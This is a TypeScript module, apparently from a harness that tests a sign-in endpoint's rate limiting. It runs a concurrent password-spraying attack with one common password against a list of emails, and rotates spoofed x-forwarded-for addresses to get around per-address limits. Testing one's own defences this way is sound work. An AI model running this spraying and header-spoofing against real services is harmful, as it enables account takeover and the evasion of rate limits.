import { flood, post } from './asking.ts'
import type { Attack, AttackFindings } from './attack.ts'

const CONCURRENCY = 150
/** Half of the attack comes from one address, the rest from a hundred addresses and one IPv6 network. */
const ADDRESSES = ['192.0.2.1', '192.0.2.1', 'many', 'ipv6']

export async function attackPasswords({ url, seconds, emails }: Attack): Promise<AttackFindings> {
  const judged = new Map<string, Set<string>>()
  const answers = await flood({ seconds, atOnce: CONCURRENCY }, async (n) => {
    const address = addressOf(n)
    const email = emails[n % emails.length] ?? ''
    const body = { email, password: 'Summer-2026!' }
    const status = await post(`${url}/auth/v1/sign-in/email`, { 'x-forwarded-for': address }, body)
    const block = address.includes(':') ? 'ipv6' : address
    if (status === 400) judged.set(block, (judged.get(block) ?? new Set()).add(email))
    return status
  })
  return {
    answers,
    counts: {
      'accounts judged for one address': Math.max(0, ...[...judged.values()].map(({ size }) => size)),
    },
  }
}

function addressOf(n: number): string {
  const kind = ADDRESSES[n % ADDRESSES.length]
  if (kind === 'many') return `198.51.100.${n % 100}`
  if (kind === 'ipv6') return `2001:db8:7:7::${(n % 60_000).toString(16)}`
  return kind ?? ''
}
